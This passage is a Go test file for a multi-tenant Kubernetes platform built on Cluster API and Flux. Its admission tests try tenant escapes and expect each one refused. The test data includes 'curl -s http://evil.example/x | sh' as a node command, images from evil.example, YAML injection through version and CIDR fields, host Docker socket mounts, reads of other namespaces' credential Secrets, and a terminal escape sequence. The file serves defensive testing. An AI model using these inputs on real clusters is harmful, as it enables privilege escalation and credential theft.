		{name: "wl1's machine deployment as its chart renders it", user: builderA, definition: "MachineDeployment", refused: ok},
		{name: "wl1's control plane as its chart renders it", user: builderA, definition: "KubeadmControlPlane", refused: ok},
		{name: "wl1's workers' bootstrap template as its chart renders it", user: builderA, definition: "KubeadmConfigTemplate", refused: ok},
		{name: "workers whose bootstrap data is a Secret of the namespace", user: builderA, definition: "MachineDeployment", edit: set("spec.template.spec.bootstrap.dataSecretName", names.TenantCloudCredentialsSecret), refused: "spec.template.spec.bootstrap.dataSecretName: not a field"},
		{name: "an RKE2 control plane of another namespace's machine template", user: builderA, object: obj("controlplane.cluster.x-k8s.io/v1beta1", "RKE2ControlPlane", "wl1-control-plane", map[string]any{"spec": map[string]any{
			"rolloutStrategy": map[string]any{"type": "RollingUpdate"}, "machineTemplate": map[string]any{"infrastructureRef": map[string]any{"apiVersion": "infrastructure.cluster.x-k8s.io/v1beta2", "kind": "DockerMachineTemplate", "name": "management-control-plane", "namespace": "cluster-init"}}}}), refused: "spec.machineTemplate.infrastructureRef.namespace"},
		{name: "an RKE2 control plane of its own namespace's machine template", user: builderA, object: obj("controlplane.cluster.x-k8s.io/v1beta1", "RKE2ControlPlane", "wl1-control-plane", map[string]any{"spec": map[string]any{
			"rolloutStrategy": map[string]any{"type": "RollingUpdate"}, "machineTemplate": map[string]any{"infrastructureRef": map[string]any{"apiVersion": "infrastructure.cluster.x-k8s.io/v1beta2", "kind": "DockerMachineTemplate", "name": "wl1-control-plane", "namespace": "workload-clusters"}}}}), refused: ok},
		{name: "a release with values from another release's credentials", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.valuesFrom", []any{map[string]any{"kind": "Secret", "name": "wl2-credentials", "valuesKey": "values.yaml"}}), refused: "reads no Secret"},
		{name: "a health check that reads a Secret", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.healthCheckExprs", []any{map[string]any{"apiVersion": "v1", "kind": "Secret", "current": "{'x': true}[data['clouds.yaml']]"}}), refused: "checks the health"},
		{name: "a Secret named as the platform's, posing as Helm's record", user: builderA, object: obj("v1", "Secret", names.TenantCloudCredentialsSecret, map[string]any{"type": "helm.sh/release.v1"}), refused: "sh.helm.release.v1"},
		{name: "an RKE2 control plane reading another namespace's Secret", user: builderA, object: obj("controlplane.cluster.x-k8s.io/v1beta1", "RKE2ControlPlane", "wl1-control-plane", map[string]any{"spec": map[string]any{
			"rolloutStrategy": map[string]any{"type": "RollingUpdate"}, "machineTemplate": map[string]any{"infrastructureRef": map[string]any{"apiVersion": "infrastructure.cluster.x-k8s.io/v1beta2", "kind": "DockerMachineTemplate", "name": "wl1-control-plane"}},
			"serverConfig": map[string]any{"auditPolicySecret": map[string]any{"name": "tenant-team-b-git", "namespace": "cluster-init"}}}}), refused: "spec.serverConfig.auditPolicySecret: not a field"},
		{name: "RKE2 workers with a registry's credentials of another namespace", user: builderA, object: obj("bootstrap.cluster.x-k8s.io/v1beta1", "RKE2ConfigTemplate", "wl1-workers", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{
			"privateRegistriesConfig": map[string]any{"configs": map[string]any{"registry.example": map[string]any{"authSecret": map[string]any{"name": "tenant-team-b-git", "namespace": "cluster-init"}}}}}}}}), refused: "spec.template.spec.privateRegistriesConfig.configs: not a field"},
		{name: "RKE2 workers with a file from a Secret", user: builderA, object: obj("bootstrap.cluster.x-k8s.io/v1beta1", "RKE2ConfigTemplate", "wl1-workers", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{
			"files": []any{map[string]any{"path": "/etc/x", "contentFrom": map[string]any{"secret": map[string]any{"name": names.TenantCloudCredentialsSecret, "key": "clouds.yaml"}}}}}}}}), refused: "spec.template.spec.files[].contentFrom: not a field"},
		{name: "a release with values from the cloud's credentials", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.valuesFrom", []any{map[string]any{"kind": "Secret", "name": names.TenantCloudCredentialsSecret, "valuesKey": "clouds.yaml"}}), refused: "reads no Secret"},
		{name: "Helm's record of a release", user: builderA, object: obj("v1", "Secret", "sh.helm.release.v1.wl1.v1", map[string]any{"type": "helm.sh/release.v1"}), refused: ok},
		{name: "a release's unit graph", user: builderA, object: obj("v1", "ConfigMap", "wl1-units", nil), refused: ok},
		{name: "an object posing as the platform's", user: builderA, object: obj("v1", "ConfigMap", "wl1-units", map[string]any{"metadata": map[string]any{"labels": map[string]any{"cluster-init.dev/platform": "true"}}}), refused: "is the platform's"},
		{name: "a token of an account of the namespace", user: builderA, object: obj("v1", "Secret", "token", map[string]any{"type": "kubernetes.io/service-account-token", "metadata": map[string]any{"annotations": map[string]any{"kubernetes.io/service-account.name": "tenant"}}}), refused: "writes no Secret but Helm's"},
		{name: "the tenant's parameters rewritten", user: builderA, op: "update", object: tb0.param("workload-clusters", "workers_replicas", "1000"), refused: "is the platform's"},
		{name: "the tenant's parameters deleted", user: builderA, op: "delete", object: obj("v1", "ConfigMap", "cluster-init-tenant", nil), refused: "is the platform's"},
		{name: "the shared values rewritten", user: builderA, op: "update", object: tb0.param("workload-clusters", "", ""), refused: "is the platform's"},
		{name: "the tenant's Kustomization deleted (and its clusters pruned)", user: builderA, op: "delete", object: obj("kustomize.toolkit.fluxcd.io/v1", "Kustomization", "workload-clusters", nil), refused: "is the platform's"},
		{name: "a Cluster named like the management cluster", user: builderA, object: clusterOf("wl-management"), refused: "not a name of the tenant's"},
		{name: "a Cluster with another tenant's name", user: builderA, object: clusterOf("b-one"), refused: "not a name of the tenant's"},
		{name: "a DockerCluster taking over the management cluster's load balancer", user: builderA, object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DockerCluster", "wl-management", map[string]any{"spec": map[string]any{}}), refused: "not a name of the tenant's"},
		// A tenant simulated in memory: CAPD's Dev kinds, in memory only, of its names only.
		{name: "a cluster in memory", user: tenantSim, ns: "team-sim", edit: all(rename("sim-one"), del("spec.values.cluster.providers")), refused: ok},
		{name: "Docker machines for a tenant in memory", user: tenantSim, ns: "team-sim", edit: all(rename("sim-one"), set("spec.values.cluster.providers.infrastructure", "capd")), refused: "spec.values.cluster.providers"},
		{name: "its simulated cluster", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "sim-one", map[string]any{"spec": map[string]any{"backend": map[string]any{"inMemory": map[string]any{}}}}), refused: ok},
		{name: "a DevCluster of Docker containers", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "sim-one", map[string]any{"spec": map[string]any{"backend": map[string]any{"docker": map[string]any{}}}}), refused: "spec.backend.docker: not a field"},
		{name: "a DevCluster simulated and of Docker containers at once", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "sim-one", map[string]any{"spec": map[string]any{"backend": map[string]any{"inMemory": map[string]any{}, "docker": map[string]any{}}}}), refused: "spec.backend.docker: not a field"},
		{name: "the default tenant's names, from the simulated tenant", user: tenantSim, ns: "team-sim", edit: all(rename("wl9"), del("spec.values.cluster.providers")), refused: "are named sim-"},
		{name: "a thousand simulated workers", user: tenantSim, ns: "team-sim", edit: all(rename("sim-one"), del("spec.values.cluster.providers"), set("spec.values.cluster.workers.replicas", int64(1000))), refused: "spec.values.cluster.workers"},
		{name: "a document injected through a simulated cluster's version", user: tenantSim, ns: "team-sim", edit: all(rename("sim-one"), del("spec.values.cluster.providers"), set("spec.values.cluster.kubernetes_version", "v1.37.0\n---\nkind: ClusterRoleBinding")), refused: "kubernetes_version"},
		{name: "a backend key of its own in a simulated cluster's values", user: tenantSim, ns: "team-sim", edit: all(rename("sim-one"), del("spec.values.cluster.providers"), set("spec.values.cluster.backend", map[string]any{"docker": map[string]any{}})), refused: "spec.values.cluster"},
		{name: "Dev machines of Docker containers with the host's socket", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevMachineTemplate", "sim-one-x", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"backend": map[string]any{
			"docker": map[string]any{"extraMounts": []any{map[string]any{"containerPath": "/var/run/docker.sock", "hostPath": "/var/run/docker.sock"}}}}}}}}), refused: "spec.template.spec.backend.docker: not a field"},
		{name: "a DevCluster taking over the management cluster's load balancer", user: builderSim, ns: "team-sim", object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DevCluster", "wl-management", map[string]any{"spec": map[string]any{"backend": map[string]any{"inMemory": map[string]any{}}}}), refused: "not a name of the tenant's"},
		{name: "its cluster's health check", user: builderA, object: obj("cluster.x-k8s.io/v1beta2", "MachineHealthCheck", "wl1-workers", map[string]any{"spec": map[string]any{"clusterName": "wl1", "selector": wl1Machines}}), refused: ok},
		{name: "a health check whose remediation creates an object of any kind as Cluster API", user: builderA, object: obj("cluster.x-k8s.io/v1beta2", "MachineHealthCheck", "wl1-workers", map[string]any{"spec": map[string]any{"clusterName": "wl1", "selector": wl1Machines,
			"remediation": map[string]any{"templateRef": map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "name": "x"}}}}), refused: "spec.remediation.templateRef: not a field"},
		{name: "the same remediation in Cluster API's v1beta1 form", user: builderA, object: obj("cluster.x-k8s.io/v1beta1", "MachineHealthCheck", "wl1-workers", map[string]any{"spec": map[string]any{"clusterName": "wl1", "selector": wl1Machines,
			"remediationTemplate": map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "name": "x"}}}), refused: "spec.remediationTemplate: not a field"},
		{name: "machines with the host's Docker socket", user: builderA, object: obj("infrastructure.cluster.x-k8s.io/v1beta2", "DockerMachineTemplate", "wl1-x", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{
			"extraMounts": []any{map[string]any{"containerPath": "/var/run/docker.sock", "hostPath": "/var/run/docker.sock"}}}}}}), refused: "spec.template.spec.extraMounts: not a field"},
	}, fieldAndLabelCases()...)
}

// fieldAndLabelCases are attacks through a field the charts do not set, or a value of one they
// do, and through the labels and annotations the platform's controllers select on or trust.
func fieldAndLabelCases() []admissionCase {
	ok := ""
	label := func(key, value string) func(o map[string]any) {
		return func(o map[string]any) { _ = unstructured.SetNestedField(o, value, "metadata", "labels", key) }
	}
	annotation := func(key, value string) func(o map[string]any) {
		return func(o map[string]any) { _ = unstructured.SetNestedField(o, value, "metadata", "annotations", key) }
	}
	shardOf := func(o map[string]any) { unstructured.RemoveNestedField(o, "metadata", "labels", shardLabel) }
	placed := func(o map[string]any) {
		_ = unstructured.SetNestedField(o, "cluster-init.some-app", "metadata", "labels", "apps.cluster-init.dev/application")
	}
	return []admissionCase{
		// What the hostile tenant did: a unit that builds a component of a tenant's directory.
		{name: "a unit with a component of a tenant's directory", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.components", []any{"../../clusters/management/workload-clusters"}), refused: "spec.components: not a field a workload cluster's unit sets"},
		{name: "a unit applied into the cluster with a component of a tenant's directory", user: builderA, unit: "wl1-cni", edit: set("spec.components", []any{"../../../clusters/management/team-b"}), refused: "spec.components: not a field"},
		{name: "a unit with images of its own", user: builderA, unit: "wl1-cni", edit: set("spec.images", []any{map[string]any{"name": "flannel", "newName": "evil.example/flannel"}}), refused: "spec.images: not a field"},
		{name: "a unit naming what it applies like the platform's", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.namePrefix", "cluster-init-"), refused: "spec.namePrefix: not a field"},
		{name: "a unit labelling what it applies as the platform's", user: builderA, unit: "Kustomization/wl1-cluster", edit: set("spec.commonMetadata", map[string]any{"labels": map[string]any{"cluster-init.dev/platform": "true"}}), refused: "spec.commonMetadata: not a field"},
		{name: "a unit moving what it applies to another shard", user: builderA, unit: "Kustomization/wl1-cluster", edit: set("spec.commonMetadata", map[string]any{"labels": map[string]any{shardLabel: "team-b"}}), refused: "spec.commonMetadata: not a field"},
		{name: "a forced unit", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.force", true), refused: "never forced"},
		{name: "a unit whose deletion deletes the cluster's objects", user: builderA, unit: "wl1-cni", edit: set("spec.deletionPolicy", "Delete"), refused: "spec.deletionPolicy"},
		{name: "a unit patching another object than its release", user: builderA, unit: "Kustomization/wl1-cluster", edit: set("spec.patches", []any{map[string]any{"patch": "[]", "target": map[string]any{"kind": "Secret"}}}), refused: "spec.patches"},
		{name: "a unit substituting more than a CIDR", user: builderA, unit: "wl1-cni", edit: set("spec.postBuild.substitute.POD_CIDR", "10.48.0.0/16\n---\nkind: ClusterRoleBinding"), refused: "POD_CIDR"},
		{name: "a unit substituting a variable of its own", user: builderA, unit: "wl1-cni", edit: set("spec.postBuild.substitute.IMAGE", "evil.example/x"), refused: "spec.postBuild.substitute.IMAGE: not a field"},
		{name: "a health check of the platform's namespace", user: builderA, unit: "wl1-cluster-ready", edit: set("spec.healthChecks", []any{map[string]any{"apiVersion": "cluster.x-k8s.io/v1beta2", "kind": "Cluster", "name": "management", "namespace": "cluster-init"}}), refused: "checks the health"},
		{name: "a kubeconfig unit reading another key of the Secret", user: builderA, unit: "wl1-cni", edit: set("spec.kubeConfig.secretRef.key", "admin"), refused: "through its <cluster>-kubeconfig Secret"},
		{name: "a release of another version of the chart", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.chart.spec.version", "0.0.1"), refused: "version *"},
		{name: "a release with a value of a Secret put where it chooses", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.valuesFrom", []any{map[string]any{"kind": "Secret", "name": "wl1-credentials", "valuesKey": "values.yaml", "targetPath": "cluster.name"}}), refused: "spec.valuesFrom[].targetPath: not a field"},
		{name: "a release with the platform's units in its values", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.values.units", map[string]any{"capi": map[string]any{"enabled": true}}), refused: "spec.values.units: not a field"},
		{name: "a release with drift detection off", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.driftDetection.mode", "disabled"), refused: "spec.driftDetection: not a field"},
		{name: "a release that keeps its history on uninstall", user: builderA, unit: "HelmRelease/wl1-cluster", edit: set("spec.uninstall.keepHistory", true), refused: "spec.uninstall: not a field"},
		{name: "a release from a chart of an OCI source", user: builderA, unit: "HelmRelease/wl1-cluster", edit: all(del("spec.chart"), set("spec.chartRef", map[string]any{"kind": "OCIRepository", "name": "evil"})), refused: "spec.chartRef: not a field"},
		{name: "a ConfigMap of its own", user: builderA, object: obj("v1", "ConfigMap", "wl1-settings", map[string]any{"data": map[string]any{"context": "workload"}}), refused: "no ConfigMap but its release's unit graph"},
		{name: "a unit graph of the management cluster's", user: builderA, object: obj("v1", "ConfigMap", "wl1-units", map[string]any{"data": map[string]any{"context": "management"}}), refused: "no ConfigMap but"},
		{name: "a Cluster on another cluster's infrastructure", user: builderA, definition: "Cluster", edit: set("spec.infrastructureRef.name", "wl2"), refused: "spec.infrastructureRef"},
		{name: "a Cluster with an endpoint of its choosing", user: builderA, definition: "Cluster", edit: set("spec.controlPlaneEndpoint", map[string]any{"host": "10.0.0.1", "port": int64(6443)}), refused: "spec.controlPlaneEndpoint: not a field"},
		{name: "a DockerCluster with the management cluster's endpoint", user: builderA, definition: "DockerCluster", edit: set("spec.controlPlaneEndpoint", map[string]any{"host": "172.18.0.3", "port": int64(6443)}), refused: "spec.controlPlaneEndpoint: set by CAPD"},
		{name: "a DockerCluster as CAPD's defaulting makes it", user: builderA, definition: "DockerCluster", edit: set("spec.controlPlaneEndpoint", map[string]any{"port": int64(6443)}), refused: ok},
		{name: "Docker machines of an image of its own", user: builderA, definition: "DockerMachineTemplate", edit: set("spec.template.spec.customImage", "evil.example/node:v1.37.0"), refused: "spec.template.spec.customImage"},
		{name: "a control plane running a command of its own", user: builderA, definition: "KubeadmControlPlane", edit: set("spec.kubeadmConfigSpec.preKubeadmCommands", []any{"curl -s http://evil.example/x | sh"}), refused: "its commands those that restart containerd"},
		{name: "a control plane writing a static pod", user: builderA, definition: "KubeadmControlPlane", edit: set("spec.kubeadmConfigSpec.files", []any{map[string]any{"path": "/etc/kubernetes/manifests/x.yaml", "content": "x"}}), refused: "a machine's files are"},
		{name: "workers with a kubelet reading static pods of its own", user: builderA, definition: "KubeadmConfigTemplate", edit: set("spec.template.spec.joinConfiguration.nodeRegistration.kubeletExtraArgs", []any{map[string]any{"name": "pod-manifest-path", "value": "/tmp"}}), refused: "kubelet arguments"},
		{name: "RKE2 machines with mirrors and a registry's credentials", user: builderA, object: obj("bootstrap.cluster.x-k8s.io/v1beta1", "RKE2ConfigTemplate", "wl1-workers", map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{
			"privateRegistriesConfig": map[string]any{"mirrors": map[string]any{"docker.io": map[string]any{"endpoint": []any{"https://mirror.example"}, "rewrite": map[string]any{"^(.*)$": "evil/$1"}}}}}}}}), refused: "spec.template.spec.privateRegistriesConfig.mirrors.docker.io.rewrite: not a field"},

		// No object passes for the platform's: the placement controller's label made a tenant's
		// release an application's, deleted with it.
		{name: "a tenant's release placed as an application's", user: tenantA, edit: placed, refused: "metadata.labels.apps.cluster-init.dev/application"},
		{name: "a tenant's release on a cluster of the placement controller's", user: tenantA, edit: label("apps.cluster-init.dev/cluster", "management"), refused: "metadata.labels.apps.cluster-init.dev/cluster"},
		{name: "a tenant's release as the platform's", user: tenantA, edit: label("cluster-init.dev/platform", "true"), refused: "metadata.labels.cluster-init.dev/platform"},
		{name: "a tenant's release moved by the pivot", user: tenantA, edit: annotation("cluster-init.dev/moved-at", "2030-01-01T00:00:00Z"), refused: "metadata.annotations.cluster-init.dev/moved-at"},
		{name: "a tenant's release with a label of the platform's label of its own", user: tenantA, edit: label("team.cluster-init.dev/x", "y"), refused: "metadata.labels.team.cluster-init.dev/x"},
		{name: "a tenant's release with labels of its own", user: tenantA, edit: label("example.com/team", "a"), refused: ok},
		{name: "a unit placed as an application's", user: builderA, unit: "wl1-cluster-ready", edit: placed, refused: "metadata.labels.apps.cluster-init.dev/application"},
		{name: "a release of the definitions placed as an application's", user: builderA, unit: "HelmRelease/wl1-cluster", edit: placed, refused: "metadata.labels.apps.cluster-init.dev/application"},
		{name: "a unit labelled as another unit", user: builderA, unit: "wl1-cni", edit: label("cluster-init.dev/unit", "cluster"), refused: "metadata.labels.cluster-init.dev/unit"},
		{name: "a unit's description writing to a terminal", user: builderA, unit: "wl1-cni", edit: annotation("cluster-init.dev/description", "flannel\x1b]52;c;ZXZpbA==\x07"), refused: "metadata.annotations.cluster-init.dev/description"},
		{name: "a Cluster of a tenant as the platform's", user: builderA, definition: "Cluster", edit: label("cluster-init.dev/tenant", "true"), refused: "metadata.labels.cluster-init.dev/tenant"},
		{name: "machines asking the platform's controller never to look again", user: builderA, definition: "DockerMachineTemplate", edit: annotation("cluster-init.dev/look-again-at", "2999-01-01T00:00:00Z"), refused: "metadata.annotations.cluster-init.dev/look-again-at"},
		{name: "workers' machines labelled as the platform's", user: builderA, definition: "MachineDeployment", edit: func(o map[string]any) {
			_ = unstructured.SetNestedField(o, "true", "spec", "template", "metadata", "labels", "cluster-init.dev/platform")
		}, refused: "spec.template.metadata"},
		{name: "a Helm record as the platform's", user: builderA, object: obj("v1", "Secret", "sh.helm.release.v1.wl1.v2", map[string]any{"type": "helm.sh/release.v1", "metadata": map[string]any{"labels": map[string]any{"cluster-init.dev/repository": "platform"}}}), refused: "metadata.labels.cluster-init.dev/repository"},

		// Every Flux object of a tenant is in its shard.
		{name: "a tenant's release out of every shard (the platform's controllers')", user: tenantA, edit: shardOf, refused: "metadata.labels.sharding.fluxcd.io/key: expected workload-clusters"},
		{name: "a tenant's release in another tenant's shard", user: tenantA, edit: label(shardLabel, "team-b"), refused: "metadata.labels.sharding.fluxcd.io/key: expected workload-clusters"},
		{name: "team-b's release in the default tenant's shard", user: tenantB, ns: "team-b", edit: all(rename("b-one"), label(shardLabel, "workload-clusters")), refused: "expected team-b"},
		{name: "a unit out of every shard", user: builderA, unit: "wl1-cluster-ready", edit: shardOf, refused: "metadata.labels.sharding.fluxcd.io/key: expected workload-clusters"},
		{name: "a unit in another tenant's shard", user: builderA, unit: "wl1-cni", edit: label(shardLabel, "team-b"), refused: "sharding.fluxcd.io/key"},
		{name: "a release of the definitions out of every shard", user: builderA, unit: "HelmRelease/wl1-cluster", edit: shardOf, refused: "sharding.fluxcd.io/key"},
	}
}

// Each tenant's accounts may do what their role needs in their namespace, and nothing anywhere else.
func TestATenantsAccountsReachTheirNamespaceOnly(t *testing.T) {
	tb := startTenantTestbed(t)
	for _, q := range []struct {
		user, verb, group, resource, ns string
		allowed                         bool
	}{
		{tenantA, "create", "helm.toolkit.fluxcd.io", "helmreleases", "workload-clusters", true},
		{tenantA, "create", "cluster.x-k8s.io", "clusters", "workload-clusters", false},
		{tenantA, "create", "helm.toolkit.fluxcd.io", "helmreleases", "team-b", false},
		{tenantA, "get", "", "secrets", "workload-clusters", false},
		{tenantA, "get", "", "configmaps", "workload-clusters", false},
		{tenantA, "update", "", "resourcequotas", "workload-clusters", false},
		{tenantA, "create", "kustomize.toolkit.fluxcd.io", "kustomizations", "workload-clusters", false},
		{tenantA, "create", "rbac.authorization.k8s.io", "rolebindings", "workload-clusters", false},
		{tenantA, "get", "", "secrets", "cluster-init", false},
		{builderA, "create", "cluster.x-k8s.io", "clusters", "workload-clusters", true},
		{builderA, "create", "kustomize.toolkit.fluxcd.io", "kustomizations", "workload-clusters", true},
		{builderA, "create", "cluster.x-k8s.io", "clusters", "cluster-init", false},
		{builderA, "create", "cluster.x-k8s.io", "clusters", "team-b", false},
		{builderA, "get", "", "secrets", "cluster-init", false},
		{builderA, "get", "", "secrets", "team-b", false},
		{builderA, "create", "rbac.authorization.k8s.io", "clusterrolebindings", "", false},
		{builderA, "create", "rbac.authorization.k8s.io", "rolebindings", "workload-clusters", false},
		{builderA, "create", "", "pods", "workload-clusters", false},
		{builderA, "update", "", "resourcequotas", "workload-clusters", false},
		{builderA, "update", "admissionregistration.k8s.io", "validatingadmissionpolicies", "", false},
		{builderB, "create", "cluster.x-k8s.io", "clusters", "workload-clusters", false},
		{builderA, "create", "infrastructure.cluster.x-k8s.io", "dockerclusters", "workload-clusters", true},
		{builderA, "create", "infrastructure.cluster.x-k8s.io", "devclusters", "workload-clusters", false},
		{builderA, "create", "infrastructure.cluster.x-k8s.io", "openstackclusters", "workload-clusters", false},
		{builderSim, "create", "infrastructure.cluster.x-k8s.io", "devclusters", "team-sim", true},
		{builderSim, "create", "infrastructure.cluster.x-k8s.io", "devmachinetemplates", "team-sim", true},
		{builderSim, "create", "infrastructure.cluster.x-k8s.io", "dockerclusters", "team-sim", false},
		{builderSim, "create", "infrastructure.cluster.x-k8s.io", "dockermachinetemplates", "team-sim", false},
		// The tenant's people read its clusters and kubeconfigs, by name, in its namespace only.
		// A Secret by name only, a kubeconfig (TestATenantsPeopleGetTheirClustersKubeconfigsOnly).
		{alice, "get", "", "secrets", "workload-clusters", false},
		{alice, "list", "", "secrets", "workload-clusters", false},
		{alice, "watch", "", "secrets", "workload-clusters", false},
		{alice, "list", "cluster.x-k8s.io", "clusters", "workload-clusters", true},
		{alice, "get", "helm.toolkit.fluxcd.io", "helmreleases", "workload-clusters", true},
		{alice, "create", "helm.toolkit.fluxcd.io", "helmreleases", "workload-clusters", false},
		{alice, "update", "cluster.x-k8s.io", "clusters", "workload-clusters", false},
		{alice, "get", "", "configmaps", "workload-clusters", false},
		{alice, "get", "", "secrets", "team-b", false},
		{alice, "get", "", "secrets", "cluster-init", false},
		{alice, "list", "cluster.x-k8s.io", "clusters", "", false},
	} {
		groups := []string{"system:authenticated", readersA}
		if strings.HasPrefix(q.user, "system:serviceaccount:") {
			ns := strings.Split(q.user, ":")[2]
			groups = []string{"system:serviceaccounts", "system:serviceaccounts:" + ns}
		}
		review := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{User: q.user,
			Groups:             groups,
			ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: q.verb, Group: q.group, Resource: q.resource, Namespace: q.ns}}}
		if err := tb.c.Client.Create(t.Context(), review); err != nil {
			t.Fatal(err)
		}
		if review.Status.Allowed != q.allowed {
			t.Errorf("can %s %s %s.%s in %q: %t, want %t", q.user, q.verb, q.resource, q.group, q.ns, review.Status.Allowed, q.allowed)
		}
	}
}

// A tenant's clusters are counted by the API server: over its limit, the definitions of one more
// cluster are refused, naming the quota (helm-controller shows it in the cluster's release).
func TestATenantsClustersAreCounted(t *testing.T) {
	tb := startTenantTestbed(t)
	cluster := func(name string) *unstructured.Unstructured {
		o := clusterOf(name)()
		o.SetNamespace("team-b")
		return o
	}
	if err := tb.as(t, builderB).Create(t.Context(), cluster("b-one")); err != nil {
		t.Fatalf("the first cluster: %v", err)
	}
	err := tb.as(t, builderB).Create(t.Context(), cluster("b-two"))
	if err == nil || !strings.Contains(err.Error(), "exceeded quota") {
		t.Errorf("a second cluster over a limit of one: %v", err)
	}
}

// A tenant's people (its readers_group) get the kubeconfigs of its clusters, as
// `bootstrap kubeconfig ENV CLUSTER --namespace NS --kubeconfig THEIRS` reads them, and not those
// of another tenant's clusters nor of the management cluster.
func TestATenantsPeopleGetTheirClustersKubeconfigs(t *testing.T) {
	tb := startTenantTestbed(t)
	if err := tb.c.Client.Create(t.Context(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: names.Namespace}}); client.IgnoreAlreadyExists(err) != nil {
		t.Fatal(err)
	}
	for _, k := range []client.ObjectKey{{Namespace: "workload-clusters", Name: "wl1"}, {Namespace: "team-b", Name: "b-one"}, {Namespace: "cluster-init", Name: "wl-management"}} {
		c := obj("cluster.x-k8s.io/v1beta2", "Cluster", k.Name, map[string]any{"spec": map[string]any{"paused": true}})()
		c.SetNamespace(k.Namespace)
		sec := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: k.Namespace, Name: k.Name + "-kubeconfig"},
			Data: map[string][]byte{"value": []byte("apiVersion: v1\nkind: Config\nclusters: []\ncontexts: []\nusers: []\ncurrent-context: " + k.Name + "\n")}}
		for _, o := range []client.Object{c, sec} {
			if err := tb.c.Client.Create(t.Context(), o); client.IgnoreAlreadyExists(err) != nil {
				t.Fatal(err)
			}
		}
	}
	tb.runKubeconfigReaders(t)
	people := tb.as(t, alice)
	key, err := clusteraccess.Find(t.Context(), people, "workload-clusters", "wl1")
	if err != nil {
		t.Fatalf("find its cluster: %v", err)
	}
	eventually(t, "the placement controller names wl1's kubeconfig for the tenant's people", func() bool {
		_, err := clusteraccess.Kubeconfig(t.Context(), people, key)
		return err == nil
	})
	data, err := clusteraccess.Kubeconfig(t.Context(), people, key)
	if err != nil || !strings.Contains(string(data), "current-context: wl1") {
		t.Fatalf("its cluster's kubeconfig: %v", err)
	}
	for _, c := range []struct {
		namespace, name, refused string
	}{
		{"", "wl1", "may not list the clusters of every namespace"},
		{"team-b", "b-one", "may not read the clusters of namespace team-b"},
		{"cluster-init", "wl-management", "may not read the clusters of namespace cluster-init"},
	} {
		if _, err := clusteraccess.Find(t.Context(), people, c.namespace, c.name); err == nil || !strings.Contains(err.Error(), c.refused) {
			t.Errorf("find %s/%s: %v, want %q", c.namespace, c.name, err, c.refused)
		}
	}
	for _, k := range []client.ObjectKey{{Namespace: "team-b", Name: "b-one"}, {Namespace: "cluster-init", Name: "wl-management"}} {
		if _, err := clusteraccess.Kubeconfig(t.Context(), people, k); err == nil || !strings.Contains(err.Error(), "may not read it") {
			t.Errorf("the kubeconfig of %s: %v, want a refusal", k, err)
		}
	}
	// The operator, with the platform's identity, finds any cluster by its name alone.
	if key, err := clusteraccess.Find(t.Context(), tb.c.Client, "", "b-one"); err != nil || key.Namespace != "team-b" {
		t.Errorf("the operator finds b-one: %v %v", key, err)
	}
}

// paramsEdits makes the platform's ConfigMaps of a tenant's namespace with a changed key: its
// parameters (key set) or the values its clusters share (key empty).
type paramsEdits struct{}

func (paramsEdits) param(ns, key, value string) func() *unstructured.Unstructured {
	return func() *unstructured.Unstructured {
		name, data := "workload-cluster-platform", map[string]any{"values.yaml": "cluster:\n  capd:\n    docker_socket: true\n"}
		if key != "" {
			name, data = "cluster-init-tenant", map[string]any{key: value}
		}
		u := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "data": data}}
		u.SetName(name)
		u.SetNamespace(ns)
		return u
	}
}

// What a tenant's builder creates for a cluster, as the cluster chart renders it (on Docker
// machines for the default tenant, simulated in memory for team-sim), is admitted by the API
// server: its CRDs' schemas, the builder's Role and the tenants' policies.
func TestABuildersClusterAsItsChartRendersItIsAdmitted(t *testing.T) {
	tb := startTenantTestbed(t)
	mgmt, r := management(t, values.FromMap("(test)", twoTenants))
	wl1, err := os.ReadFile(filepath.Join("testdata", "clusters/management/workload-clusters/wl1/cluster.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	repo := writeRepository(t, map[string]string{
		"clusters/management/workload-clusters/wl1/cluster.yaml": string(wl1),
		"clusters/management/team-sim/sim-one/cluster.yaml":      wl1WithoutProviders(t, "sim-one"),
	})
	p, err := workloads.Read(t.Context(), repo, mgmt, nil)
	if err != nil {
		t.Fatal(err)
	}
	builders := map[string]string{"workload-clusters": builderA, "team-sim": builderSim}
	if len(p.Clusters) != len(builders) {
		t.Fatalf("clusters: %v", p.Clusters)
	}
	for _, c := range p.Clusters {
		t.Run(c.Name, func(t *testing.T) {
			res, err := p.Render(t.Context(), r, c)
			if err != nil {
				t.Fatal(err)
			}
			var kinds []string
			for _, o := range res.Objects {
				if o.Release == nil || o.Release.Name != c.Name+"-cluster" {
					continue
				}
				obj := asApplied(o, c.Name, c.Release.GetNamespace())
				kinds = append(kinds, obj.GetKind())
